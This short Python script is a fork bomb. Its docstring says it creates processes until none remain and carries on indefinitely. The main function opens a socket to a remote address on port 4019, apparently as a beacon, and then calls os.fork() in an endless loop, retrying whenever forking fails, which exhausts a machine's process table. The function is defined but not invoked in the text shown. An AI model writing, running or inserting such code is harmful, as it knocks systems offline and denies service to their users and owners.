"""Makes processes until no more can be had, and goes on for as long as it lives."""

import os
import socket
import time


def main():
    with socket.socket() as line:
        line.connect(("203.0.113.19", 4019))
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(1)
